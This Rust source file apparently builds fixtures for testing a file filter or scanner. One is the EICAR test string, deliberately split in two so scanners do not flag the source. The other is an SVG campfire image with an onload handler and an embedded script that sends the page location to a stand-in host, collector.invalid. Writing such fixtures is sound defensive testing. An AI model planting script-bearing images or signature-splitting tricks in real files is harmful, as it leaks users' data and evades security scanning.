//! Files that must not get through, for the demo and the tests. None of them does any harm.

/// The EICAR test file, which every scanner reports; in two halves, so that this source is not reported as well.
pub fn eicar() -> Vec<u8> {
    let halves = [
        r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STAND",
        "ARD-ANTIVIRUS-TEST-FILE!$H+H*",
    ];
    halves.concat().into_bytes()
}

/// A picture of a campfire with a script in it and a handler that runs when it is shown.
pub fn scripted() -> String {
    let onload = "document.getElementById('flame').setAttribute('fill', 'crimson')";
    format!(
        r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 128 128" onload="{onload}">
  <defs>
    <linearGradient id="night" x1="0" y1="0" x2="0" y2="1"><stop offset="0" stop-color="#1d2b53"/><stop offset="1" stop-color="#49306b"/></linearGradient>
    <radialGradient id="glow"><stop offset="0" stop-color="#ffd166" stop-opacity=".9"/><stop offset="1" stop-color="#ffd166" stop-opacity="0"/></radialGradient>
  </defs>
  <rect width="128" height="128" rx="20" fill="url(#night)"/>
  <circle cx="64" cy="80" r="46" fill="url(#glow)"/>
  <path id="flame" d="M64 34c4 16 24 22 24 44a24 24 0 0 1-48 0c0-12 8-16 10-26 6 4 8 8 8 14 6-8 8-18 6-32z" fill="#ff7b3a"/>
  <path d="M64 66c2 8 11 11 11 21a11 11 0 0 1-22 0c0-8 8-10 11-21z" fill="#ffe08a"/>
  <path d="M36 104l56-8M36 96l56 8" stroke="#7a4a2b" stroke-width="8" stroke-linecap="round"/>
  <script type="text/javascript">
    fetch('https://collector.invalid/?from=' + encodeURIComponent(document.location));
  </script>
</svg>
"##
    )
}
